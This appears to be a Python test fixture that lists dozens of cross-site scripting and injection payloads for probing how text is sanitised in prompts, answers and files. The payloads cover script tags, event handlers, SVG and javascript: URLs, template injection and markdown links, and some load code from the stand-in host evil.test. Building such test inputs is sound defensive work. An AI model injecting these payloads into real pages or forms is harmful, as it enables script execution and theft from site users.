"""Text that tries to be more than text: HTML, script and addresses, as they come in prompts, answers, names and files."""
from __future__ import annotations

RUN = "window.pwned=1"
TAGS = [
    "<script>{run}</script>", "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", "<scr<script>ipt>{run}</scr</script>ipt>", "<script type=module>{run}</script>", "</script><script>{run}</script>",
    "</textarea><script>{run}</script>", "</style><script>{run}</script>", "</title><script>{run}</script>", "--><script>{run}</script>", "]]><script>{run}</script>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", '"><img src=x onerror="{run}">', "'><img src=x onerror={run}>", "<img/src/onerror={run}>", "<IMG SRC=javascript:{run}>",
    "<img src=1 href=1 onerror={run}>", "<image src=x onerror={run}>", "<img src onerror /\" '\" = {run} />", "<img srcset=x onerror={run}>",
    "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={run}>", "<svg><use href=data:image/svg+xml,x#x></use></svg>", "<svg><foreignObject><iframe src=javascript:{run}></iframe></foreignObject></svg>",
    "<math><mi xlink:href=javascript:{run}>x</mi></math>", "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe onload={run}></iframe>", "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>", "<frameset onload={run}>", "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=import href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>", "<meta http-equiv=refresh content='0;url=//evil.test'>", "<style>@import '//evil.test/x.css'</style>", "<style>*{{background:url(//evil.test)}}</style>",
    "<body onload={run}>", "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<button formaction=javascript:{run}>x</button>",
    "<form action=javascript:{run}><input type=submit></form>", "<isindex action=javascript:{run} type=submit>", "<details open ontoggle={run}>x</details>", "<marquee onstart={run}>x</marquee>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<video poster=javascript:{run}></video>", "<a href=javascript:{run}>x</a>", "<a href='java\tscript:{run}'>x</a>",
    "<a href=data:text/html,<script>{run}</script>>x</a>", "<a href='https://evil.test'>x</a>", "<div style=background:url(javascript:{run})>x</div>", "<div onpointerenter={run} style=position:fixed;inset:0>x</div>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<b>bold</b>", "<x contenteditable onblur={run}>x</x>", "<dialog open onclose={run}>x</dialog>",
    "javascript:{run}", "data:text/html;base64,PHNjcmlwdD4=", "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "`;{run};`", "';{run};//", '";{run};//', "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;", "%3Cscript%3E{run}%3C/script%3E", "[x](javascript:{run})", "![x](x\" onerror=\"{run})", "$$\\href{{javascript:{run}}}{{x}}$$", "__proto__", "constructor"]
PAYLOADS = [tag.format(run=RUN) for tag in TAGS]
